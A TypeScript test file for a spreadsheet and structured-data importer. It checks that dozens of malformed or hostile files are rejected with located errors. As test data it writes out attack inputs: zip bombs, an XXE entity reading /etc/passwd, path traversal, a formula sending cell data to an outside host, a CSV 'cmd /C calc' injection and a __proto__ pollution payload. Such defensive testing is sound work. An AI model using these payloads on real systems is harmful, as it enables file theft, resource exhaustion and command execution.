// Files that are not what they should be: each gets an error with its place, nothing of it is taken, and nothing in it runs.

import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { FileProblemCode } from '#shared/standard/file-problem.ts';
import { tablesToCsv } from '#shared/standard/table/csv.ts';
import { standardToTables } from '#shared/standard/table/to-tables.ts';
import type { Cell, Table } from '#shared/standard/table/table.ts';
import { readStandardFile } from './read-file.ts';
import { templateStandard } from './template.ts';
import { writeStandardFile, writeTemplate } from './write-file.ts';
import { writeXlsx } from './xlsx-write.ts';
import { openZip, writeZip } from './zip.ts';

const text = (source: string): Buffer => Buffer.from(source, 'utf8');
const sound = templateStandard();
const json = (change: (data: Record<string, any>) => void): Buffer => { // oxlint-disable-line typescript/no-explicit-any -- plain data to be spoilt
  const data = JSON.parse(JSON.stringify(sound)) as Record<string, unknown>;
  change(data);
  return text(JSON.stringify(data, null, 1));
};

// A sound workbook, one of its parts replaced.
const LIMITS = { entries: 100, fileBytes: 1e7, totalBytes: 1e7 };
const parts = (bytes: Uint8Array): { name: string; text: string }[] => {
  const zip = openZip(bytes, LIMITS);
  return zip.names.map((name) => ({ name, text: new TextDecoder().decode(zip.read(name)) }));
};
const packed = (files: readonly { readonly name: string; readonly text: string }[]): Uint8Array => writeZip(files.map(({ name, text: source }) => ({ name, bytes: text(source) })));
const workbook = writeXlsx(standardToTables(sound));
const ITEMS = 'xl/worksheets/sheet6.xml';
const edited = (name: string, edit: (source: string) => string): Uint8Array => packed(parts(workbook).map((part) => (part.name === name ? { name, text: edit(part.text) } : part)));
const withPart = (name: string, source: string): Uint8Array => packed([...parts(workbook), { name, text: source }]);
/** Changes a cell of a table before it is written; rows and columns from 0, the heading is row 0. */
const cell = (sheet: string, row: number, column: number, value: Cell): Table[] =>
  standardToTables(sound).map((table) => (table.name === sheet ? { ...table, merged: [], rows: table.rows.map((cells, r) => (r === row ? cells.map((one, c) => (c === column ? value : one)) : cells)) } : table));
const sheetXml = (rows: string, more = ''): string => `<worksheet xmlns="m"><sheetData>${rows}</sheetData>${more}</worksheet>`;

let made: Uint8Array | undefined;
const bomb = (): Uint8Array => (made ??= edited(ITEMS, () => sheetXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>${'0'.repeat(70 * 1024 * 1024)}</t></is></c></row>`)));
const liar = (): Uint8Array => {
  // Says of a part that it is small; what comes out is not.
  const bytes = Buffer.from(bomb());
  for (let at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1'); at >= 0; at = bytes.indexOf('PK\u0001\u0002', at + 4, 'latin1')) {
    if (bytes.readUInt32LE(at + 24) > 64 * 1024 * 1024) bytes.writeUInt32LE(100, at + 24);
  }
  return bytes;
};
const twoOfOneName = (): Uint8Array => packed([...parts(workbook), { name: 'XL/WORKBOOK.XML', text: '<workbook/>' }]);
const cut = (bytes: Uint8Array, share: number): Uint8Array => bytes.subarray(0, Math.floor(bytes.length * share));
const flipped = (): Uint8Array => {
  const bytes = Buffer.from(workbook);
  bytes[Math.floor(bytes.length / 3)]! ^= 0xff;
  return bytes;
};
const encrypted = (): Uint8Array => {
  const bytes = Buffer.from(workbook);
  const at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1');
  bytes.writeUInt16LE(1, at + 8);
  return bytes;
};
const ole = (inside: string): Uint8Array => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600), Buffer.from(inside, 'utf16le')]);
// “评审” in GBK, cut in the middle of a character.
const GBK = Buffer.from([0xc6, 0xc0, 0xc9, 0xf3]);

interface Place {
  readonly sheet?: string;
  readonly row?: number;
  readonly column?: string;
  readonly line?: number;
  readonly path?: string;
}
type Bad = readonly [what: string, name: string, bytes: () => Uint8Array, code: FileProblemCode, place?: Place];
const CELL = (sheet: string, row: number, column: string): Place => ({ sheet, row, column });

const BAD: readonly Bad[] = [
  // Not the kind of file at all.
  ['nothing', 'x.xlsx', () => new Uint8Array(), 'empty'],
  ['white space', 'x.csv', () => text(' \r\n\uFEFF \n'), 'empty'],
  ['33 MB', 'x.json', () => Buffer.alloc(33 * 1024 * 1024, 32), 'tooLarge'],
  ['a PDF', 'x.xlsx', () => text('%PDF-1.7\n1 0 obj'), 'unknownFormat'],
  ['a web page that calls itself a workbook', 'x.xls', () => text('<html><script>alert(1)</script><table><tr><td>序号</td></tr></table></html>'), 'unknownFormat'],
  ['a web page that calls itself CSV', 'x.csv', () => text('<table><tr><td>序号</td></tr></table>'), 'unknownFormat'],
  ['a picture', 'x.xlsx', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0, 1, 2, 3]), 'unknownFormat'],
  ['an old workbook', 'x.xls', () => ole('Workbook'), 'oldExcel'],
  ['a workbook with a password', 'x.xlsx', () => ole('EncryptedPackage'), 'encrypted'],
  ['an archive with a password', 'x.xlsx', encrypted, 'encrypted'],
  ['a text document', 'x.docx', () => packed([{ name: '[Content_Types].xml', text: '<Types/>' }, { name: 'word/document.xml', text: '<document/>' }]), 'unknownFormat'],
  // Damaged archives and those that are out for harm.
  ['half a workbook', 'x.xlsx', () => cut(workbook, 0.5), 'damaged'],
  ['a workbook with a byte gone wrong', 'x.xlsx', flipped, 'damaged'],
  ['two files of one name', 'x.xlsx', twoOfOneName, 'damaged'],
  ['a zip bomb', 'x.xlsx', bomb, 'zipBomb'],
  ['a zip bomb that lies about its size', 'x.xlsx', liar, 'zipBomb'],
  ['too many files', 'x.xlsx', () => packed([...parts(workbook), ...Array.from({ length: 2_001 }, (_, n) => ({ name: `xl/${n}`, text: '' }))]), 'zipBomb'],
  ['macros', 'x.xlsm', () => withPart('xl/vbaProject.bin', 'Sub Auto_Open()'), 'macros'],
  ['macros by their type alone', 'x.xlsx', () => edited('[Content_Types].xml', (source) => source.replace('spreadsheetml.sheet.main', 'ms-excel.sheet.macroEnabled.main')), 'macros'],
  ['old macro sheets', 'x.xlsx', () => withPart('xl/macrosheets/sheet1.xml', '<x/>'), 'macros'],
  ['links to other workbooks', 'x.xlsx', () => withPart('xl/externalLinks/externalLink1.xml', '<externalLink/>'), 'external'],
  ['a sheet that lies elsewhere', 'x.xlsx', () => edited('xl/_rels/workbook.xml.rels', (source) => source.replace('Target="worksheets/sheet6.xml"', 'Target="http://192.0.2.1/x.xml" TargetMode="External"')), 'external'],
  ['an embedded program', 'x.xlsx', () => withPart('xl/embeddings/oleObject1.bin', 'MZ'), 'external'],
  ['a sheet outside the archive', 'x.xlsx', () => edited('xl/_rels/workbook.xml.rels', (source) => source.replace('worksheets/sheet6.xml', '../../../../etc/passwd')), 'damaged'],
  // XML that is no XML, or more than that.
  ['entities that grow', 'x.xlsx', () => edited(ITEMS, () => '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'), 'badXml'],
  ['an entity that reads a file', 'x.xlsx', () => edited(ITEMS, () => '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>&f;</worksheet>'), 'badXml'],
  ['an unknown entity', 'x.xlsx', () => edited(ITEMS, (source) => source.replace('<is><t xml:space="preserve">', '<is><t>&x;')), 'badXml'],
  ['elements that cross', 'x.xlsx', () => edited(ITEMS, (source) => source.replace('</row>', '</c></row>')), 'badXml'],
  ['elements without end', 'x.xlsx', () => edited(ITEMS, () => '<a>'.repeat(100_000)), 'badXml'],
  ['a sheet in a broken encoding', 'x.xlsx', () => writeZip(parts(workbook).map((part) => ({ name: part.name, bytes: part.name === ITEMS ? Buffer.concat([text('<worksheet>'), Buffer.from([0xff, 0xfe, 0x41])]) : text(part.text) }))), 'badEncoding'],
  ['a cell in the wrong row', 'x.xlsx', () => edited(ITEMS, () => sheetXml('<row r="1"><c r="A7"><v>1</v></c></row>')), 'badXml', { sheet: '评审项' }],
  // Sheets and cells.
  ['a sheet of a hundred thousand rows', 'x.xlsx', () => edited(ITEMS, () => sheetXml('<row r="99999"><c r="A99999"><v>1</v></c></row>')), 'tooLarge', { sheet: '评审项', row: 99_999 }],
  ['a million cells', 'x.xlsx', () => edited(ITEMS, () => sheetXml(Array.from({ length: 6_000 }, (_, r) => `<row r="${r + 1}">${'<c><v>1</v></c>'.repeat(110)}</row>`).join(''))), 'tooLarge', { sheet: '评审项' }],
  ['a formula', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<c r="D2"[^>]*>.*?<\/c>/s, '<c r="D2"><f>HYPERLINK("http://192.0.2.1/"&amp;A1)</f><v>1</v></c>')), 'formula', CELL('评审项', 2, 'D')],
  ['a formula with a text as its value', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<c r="B3"[^>]*>.*?<\/c>/s, '<c r="B3" t="str"><f>1+1</f><v>x</v></c>')), 'formula', CELL('评审项', 3, 'B')],
  ['a text that would be a formula elsewhere', 'x.xlsx', () => writeXlsx(cell('评审项', 2, 3, '=1+1')), 'formula', CELL('评审项', 3, 'D')],
  ['a formula in CSV', 'x.csv', () => text(tablesToCsv(cell('评审项', 2, 3, '=1+1'))), 'formula', { sheet: '评审项', column: 'D' }],
  ['a command in CSV', 'x.csv', () => text(tablesToCsv(cell('评审项', 2, 3, "@SUM(1+1)*cmd|' /C calc'!A0"))), 'formula', { sheet: '评审项', column: 'D' }],
  ['a formula in a plain table', 'x.csv', () => text('序号,审查内容,分值\r\n1,地面平整,5\r\n2,=HYPERLINK(A1),5\r\n'), 'formula', { row: 3, column: 'B' }],
  ['an error for a value', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<c r="H3"[^>]*>.*?<\/c>/s, '<c r="H3" t="e"><v>#REF!</v></c>')), 'errorCell', CELL('评审项', 3, 'H')],
  ['a number that became a date', 'x.xlsx', () => edited('xl/styles.xml', (source) => source.replace('<xf numFmtId="0" applyAlignment', '<xf numFmtId="14" applyAlignment')), 'dateCell'],
  ['merged cells that cross', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<mergeCells.*<\/mergeCells>/s, '<mergeCells><mergeCell ref="A2:A4"/><mergeCell ref="A4:B6"/></mergeCells>')), 'badMerge', CELL('评审项', 4, 'A')],
  ['merged cells that contain each other', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<mergeCells.*<\/mergeCells>/s, '<mergeCells><mergeCell ref="A2:D9"/><mergeCell ref="B3:C4"/></mergeCells>')), 'badMerge', CELL('评审项', 3, 'B')],
  ['merged cells that run backwards', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<mergeCells.*<\/mergeCells>/s, '<mergeCells><mergeCell ref="C9:A2"/></mergeCells>')), 'badMerge', { sheet: '评审项' }],
  ['one text merged over two items', 'x.xlsx', () => edited(ITEMS, (source) => source.replace(/<mergeCells.*<\/mergeCells>/s, '<mergeCells><mergeCell ref="D3:D4"/></mergeCells>')), 'mergedAcrossItems', CELL('评审项', 3, 'D')],
  ['a sheet left out', 'x.xlsx', () => writeXlsx(standardToTables(sound).filter(({ name }) => name !== '部分')), 'missingSheet', { sheet: '部分' }],
  ['a sheet that nobody knows', 'x.xlsx', () => writeXlsx([...standardToTables(sound), { name: '草稿', rows: [['一']] }]), 'unknownColumn', { sheet: '草稿' }],
  ['a column that nobody knows', 'x.xlsx', () => writeXlsx(cell('评审项', 0, 4, '颜色')), 'unknownColumn', CELL('评审项', 1, 'E')],
  ['a column twice', 'x.xlsx', () => writeXlsx(cell('评审项', 0, 4, '评审内容')), 'repeatedColumn', CELL('评审项', 1, 'E')],
  ['a needed column left out', 'x.csv', () => text(tablesToCsv(cell('评审项', 0, 3, '方法').map((table) => (table.name === '评审项' ? { ...table, rows: table.rows.map((row) => row.filter((_, c) => c !== 3)) } : table)))), 'missingColumn'],
  ['a value without a heading', 'x.xlsx', () => writeXlsx(cell('评审项', 2, 4, '?').map((table) => (table.name === '评审项' ? { ...table, rows: table.rows.map((row, r) => (r === 0 ? row.map((one, c) => (c === 4 ? null : one)) : row)) } : table))), 'strayCell', CELL('评审项', 3, 'E')],
  ['points that are no number', 'x.xlsx', () => writeXlsx(cell('评审项', 2, 7, '十分')), 'badCell', CELL('评审项', 3, 'H')],
  ['a level that there is not', 'x.csv', () => text(tablesToCsv(cell('评审项', 2, 6, '特别重要'))), 'badCell'],
  ['a needed cell left blank', 'x.xlsx', () => writeXlsx(cell('评审项', 4, 3, null)), 'badCell', CELL('评审项', 5, 'D')],
  ['an item of a section that there is not', 'x.xlsx', () => writeXlsx(cell('评审项', 3, 0, '9')), 'unknownReference', CELL('评审项', 4, 'A')],
  ['a condition that is none', 'x.xlsx', () => writeXlsx(cell('判定', 1, 1, 'key 很多')), 'badCell', CELL('判定', 2, 'B')],
  ['a condition on a measure that there is not', 'x.xlsx', () => writeXlsx(cell('判定', 1, 1, 'nothing >= 1')), 'invalid', CELL('判定', 2, 'B')],
  ['negative points', 'x.xlsx', () => writeXlsx(cell('评审项', 2, 7, -5)), 'invalid', CELL('评审项', 3, 'H')],
  ['a workbook without any form', 'x.xlsx', () => writeXlsx([{ name: 'Sheet1', rows: [['你好']] }]), 'noStandard'],
  // CSV.
  ['a quote that is not closed', 'x.csv', () => text('[基本信息]\r\n字段,值\r\n编码,"x\r\n'), 'badSyntax', { line: 3 }],
  ['text behind a closed quote', 'x.csv', () => text('序号,内容\r\n1,"a"b\r\n'), 'badSyntax', { line: 2 }],
  ['GBK broken off in a character', 'x.csv', () => Buffer.concat([GBK, text(',分值\r\n'), GBK.subarray(0, 3), text('\r\n')]), 'badEncoding'],
  ['UTF-16 without its mark', 'x.csv', () => Buffer.from('序号,评审内容\r\n1,a\r\n', 'utf16le'), 'unknownFormat'],
  ['a plain table with a wrong number of points', 'x.csv', () => text('序号,检查内容,分值\r\n1,整洁,五\r\n'), 'badCell', { row: 2, column: 'C' }],
  // JSON and YAML.
  ['JSON that breaks off', 'x.json', () => text('{\n "schema": 1,\n "id": '), 'badSyntax', { line: 3 }],
  ['a field that stands twice', 'x.json', () => text('{\n "schema": 1,\n "id": "a",\n "id": "b"\n}'), 'invalid', { line: 4 }],
  ['JSON a hundred thousand deep', 'x.json', () => text('['.repeat(100_000)), 'badSyntax'],
  ['a list for a standard', 'x.json', () => text('[1, 2]'), 'noStandard'],
  ['a text for a number', 'x.json', () => json((data) => (data['sections'][0].items[1].max = '10')), 'invalid', { path: 'sections[0].items[1].max' }],
  ['a number for a list', 'x.json', () => json((data) => (data['sections'] = 3)), 'invalid', { path: 'sections' }],
  ['a field that nobody knows', 'x.json', () => json((data) => (data['sections'][0].items[0].colour = 'red')), 'unknownField', { path: 'sections[0].items[0].colour' }],
  ['an id that reaches for the prototype', 'x.json', () => text(JSON.stringify(sound).replace('"id":"1.2"', '"id":"__proto__"')), 'invalid', { path: 'sections[0].items[1].id' }],
  ['a field called __proto__', 'x.json', () => text(JSON.stringify(sound).replace('"schema":1', '"schema":1,"__proto__":{"polluted":true}')), 'unknownField', { path: '__proto__' }],
  ['half a surrogate', 'x.json', () => text(JSON.stringify(sound).replace('小型门店', '\\ud800')), 'invalid', { path: 'title' }],
  ['a text of a hundred thousand signs', 'x.json', () => json((data) => (data['title'] = '长'.repeat(100_000))), 'tooLong', { path: 'title' }],
  ['YAML that grows by aliases', 'x.yaml', () => text('a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n'), 'alias', { line: 2 }],
  ['a YAML tag that makes objects', 'x.yaml', () => text('schema: !!js/function "function(){}"\n'), 'badSyntax', { line: 1 }],
  ['a YAML field that stands twice', 'x.yaml', () => text('schema: 1\nid: a\nid: b\n'), 'badSyntax', { line: 3 }],
  ['YAML indented wrong', 'x.yaml', () => text('schema: 1\n  id: a\n'), 'badSyntax'],
  ['two YAML documents', 'x.yaml', () => text('schema: 1\n---\nschema: 1\n'), 'badSyntax'],
  ['YAML nested without end', 'x.yaml', () => text('['.repeat(50_000)), 'badSyntax'],
  ['a YAML number for a number of an item', 'x.yaml', () => text(new TextDecoder().decode(writeStandardFile(sound, 'yaml')).replace('no: "1.2"', 'no: 1.2')), 'invalid', { path: 'sections[0].items[1].no' }],
];

describe('malformed files', () => {
  it('are fifty at least', () => expect(BAD.length).toBeGreaterThanOrEqual(50));
  it.each(BAD.map(([what, name, bytes, code, place]) => ({ what, name, bytes, code, place })))('$what: a clear error, nothing taken', ({ name, bytes, code, place }) => {
    const read = readStandardFile(bytes(), name);
    expect(read.document).toBeUndefined();
    expect(read.documents).toBeUndefined();
    const [first] = read.problems.filter((problem) => problem.code === code);
    expect(first, JSON.stringify(read.problems.slice(0, 5))).toMatchObject(place ?? {});
    for (const words of [first!.zh, first!.en, first!.mend.zh, first!.mend.en]) expect(words.length).toBeGreaterThan(3);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
  it('are told with their line in text files', () => {
    const bytes = json((data) => (data['sections'][0].items[1].max = '10'));
    const [problem] = readStandardFile(bytes, 'x.json').problems;
    expect(bytes.toString().split('\n')[problem!.line! - 1]).toContain('"max": "10"');
    const yaml = text(new TextDecoder().decode(writeStandardFile(sound, 'yaml')).replace('no: "1.2"', 'no: 1.2'));
    expect(yaml.toString().split('\n')[readStandardFile(yaml, 'x.yaml').problems[0]!.line! - 1]).toContain('no: 1.2');
  });
});

describe('files as people have them', () => {
  it('the template reads back as its example, in each format and language', () => {
    for (const format of ['xlsx', 'csv', 'json', 'yaml'] as const) {
      for (const language of ['zh', 'en'] as const) {
        const read = readStandardFile(writeTemplate(format, language), `x.${format}`);
        expect([format, language, read.problems, read.findings, read.document]).toEqual([format, language, [], [], sound]);
      }
    }
  });
  it('a plain table of items in GBK, as Excel in China saves it, becomes a draft that waits for its rule', () => {
    // 国境口岸卫生许可审查表 / 序号,审查内容,分值,得分 / …, encoded in GBK.
    const gbk = readFileSync(new URL('./gbk-table.testing.csv', import.meta.url));
    const read = readStandardFile(gbk, '表.csv');
    expect(read).toMatchObject({ format: 'csv', encoding: 'gb18030', problems: [] });
    expect(read.document).toMatchObject({
      title: '卫生审查表',
      matters: [],
      sections: [
        { title: '场所', items: [{ no: '1', text: '远离污染源', level: 'key' }, { no: '2', text: '场所整洁', max: 5, level: 'general' }] },
        { title: '人员', items: [{ no: '3', text: '持有健康证', max: 10, basis: ['《食品安全法》第四十五条'] }] },
      ],
    });
  });
  it('merged section cells stand for all their rows', () => {
    const table: Table = { name: 'Sheet1', rows: [['卫生审查表'], ['审查环节', '序号', '审查内容', '分值'], ['场所', 1, '远离污染源', 5], [null, 2, '场所整洁', 5], ['人员', 3, '持有健康证', 10]], merged: [[0, 2, 3]] };
    expect(readStandardFile(writeXlsx([table]), 'x.xlsx').document).toMatchObject({ title: '卫生审查表', sections: [{ title: '场所', items: [{ no: '1' }, { no: '2' }] }, { title: '人员', items: [{ no: '3' }] }] });
  });
});
